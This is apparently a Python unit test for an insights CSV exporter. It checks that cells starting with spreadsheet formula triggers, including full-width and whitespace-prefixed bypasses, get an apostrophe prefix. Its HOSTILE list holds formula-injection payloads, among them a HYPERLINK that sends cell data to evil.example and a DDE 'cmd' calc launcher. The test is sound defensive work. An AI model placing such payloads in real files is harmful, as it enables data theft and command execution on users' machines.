"""Issue 25, point 10: the insights CSV put an apostrophe before cells starting with = + - @, but not before a
full-width `＝`, a leading space or a no-break space before `=`, which spreadsheets read as formulas all the same.
Article titles come from editors and the unanswered groups' examples from customers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from api.insights.export import to_csv
from api.insights.models import InsightsOut

pytestmark = pytest.mark.unit

HOSTILE = ["＝HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")", " =1+1", "\u00a0=cmd|' /C calc'!A0",
           "\u200b=1+1", "  +31 6 1234", "\t=1", "＋1", "－1+1", "＠SUM(A1)", "\u3000@SUM(A1:A9)", "﹦2*3",
           "\u2028=1", "=1+1", "-2+3", "@SUM(A1)"]
SAFE = ["Voedt suiker kanker?", "5G en kanker", "Is 1 = 1?", "e-mail: [e-mail]", "2026-W48", "0,5 mg"]


def _insights(titles: list[str]) -> InsightsOut:
    day = dt.date(2026, 11, 30)
    return InsightsOut.model_validate({
        "period": "day", "channel": None, "language": None, "generated": "now",
        "periods": [{"label": "2026-11-30", "start": day, "end": day + dt.timedelta(days=1), "volume": 3,
                     "no_match": 1, "no_match_share": 0.33, "tiers": {}}],
        "articles": [{"kind": "article", "id": f"a{i}", "title": t, "counts": [1], "rising": [False], "total": 1}
                     for i, t in enumerate(titles)],
        "topics": [], "rising": [], "feedback": [],
        "unanswered": {"periods": ["2026-11-30"], "sampled": [3], "groups": [
            {"label": t, "counts": [1], "rising": False, "ratio": None, "examples": [t], "offered": []}
            for t in titles]},
        "rule": {"min_count": 5, "min_ratio": 2.0, "alpha": 0.05, "history": 4},
    })


def _cells(titles: list[str]) -> list[str]:
    table = list(csv.reader(io.StringIO(to_csv(_insights(titles)))))
    return [row[4] for row in table[1:] if row[2] == "article"] + [row[3] for row in table[1:]
                                                                   if row[2] == "unanswered_group"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert _cells([text]) == ["'" + text, "'" + text]


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert _cells([text]) == [text, text]
